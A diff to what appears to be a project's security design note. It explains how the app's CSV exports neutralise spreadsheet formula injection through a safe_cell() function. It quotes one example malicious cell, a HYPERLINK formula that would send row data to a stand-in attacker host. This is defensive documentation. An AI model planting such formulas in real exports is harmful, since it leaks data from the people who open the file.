@@ -3,8 +3,9 @@
 Why: guests and users choose their own names, and tutors name their services. A cell
 such as `=HYPERLINK("http://evil.example/?g="&B2,"guest")` is a formula to Excel,
 LibreOffice and Google Sheets: opened by an admin it can send the row's data away or,
-with DDE, run commands (OWASP "CSV Injection"). Every CSV the app produces goes through
-`csv_bytes()` (the admin export included), so no cell reaches a spreadsheet as a formula.
+with DDE, run commands (OWASP "CSV Injection"). Every CSV the app produces writes its
+cells through `safe_cell()` (`csv_bytes()`, and `excel_csv_stream()` that the exports, the
+reports and the admin use), so no cell reaches a spreadsheet as a formula.
 
 `safe_cell()` follows OWASP: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
 carriage return (also after leading whitespace, which spreadsheets skip) gets a leading
